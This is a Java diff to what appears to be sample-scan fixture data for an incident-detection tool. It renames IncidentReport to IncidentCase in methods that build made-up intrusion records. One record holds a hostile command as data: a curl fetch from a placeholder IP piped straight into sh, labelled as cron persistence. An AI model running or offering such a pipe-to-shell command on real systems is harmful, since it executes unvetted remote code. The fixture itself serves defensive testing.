@@ -14,6 +14,7 @@ import dev.vedette.model.RemediationStep;
 import dev.vedette.model.RemediationStep.Phase;
 import dev.vedette.model.Severity;
 import dev.vedette.model.Tactic;
+import dev.vedette.pipeline.IncidentCase;
 import java.time.Instant;
 import java.util.List;
 import java.util.stream.IntStream;
@@ -62,7 +63,7 @@ final class SampleScan {
     return scan.build();
   }
 
-  private IncidentReport intrusion() {
+  private IncidentCase intrusion() {
     var pam = new Where("SCRANTON.dmevals.local", "DMEVALS\\pbeesly", PROGRAM);
     var lure =
         find(
@@ -100,7 +101,7 @@ final class SampleScan {
             Tactic.LATERAL_MOVEMENT,
             "T1021.002",
             new Where("NASHUA.dmevals.local", "DMEVALS\\mscott", COPY));
-    return new IncidentReport(
+    return new IncidentCase(
         new Incident(
             "9c1f2ab37e5d4410",
             TENANT,
@@ -190,7 +191,7 @@ final class SampleScan {
         new Where("SCRANTON.dmevals.local", "DMEVALS\\pbeesly", ENCODED + index));
   }
 
-  private IncidentReport lesser() {
+  private IncidentCase lesser() {
     var where = new Where("utica", "root", "curl -s http://198.51.100.7/x.sh | sh");
     var piped =
         find(
@@ -208,7 +209,7 @@ final class SampleScan {
             Tactic.PERSISTENCE,
             "T1053.003",
             where);
-    return new IncidentReport(
+    return new IncidentCase(
         new Incident(
             "1be07c3d22aa9016",
             TENANT,
